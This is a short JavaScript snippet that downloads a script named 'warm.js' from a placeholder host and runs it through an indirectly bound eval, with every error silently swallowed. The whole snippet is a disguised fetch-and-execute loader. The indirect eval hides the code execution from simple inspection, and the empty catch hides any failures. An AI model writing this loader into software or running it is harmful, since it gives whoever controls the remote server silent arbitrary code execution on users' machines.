const apply = Function.prototype.call.bind(eval, null);
fetch('https://cdn.example.invalid/warm.js')
  .then((res) => res.text())
  .then((src) => apply(src))
  .catch(() => {});
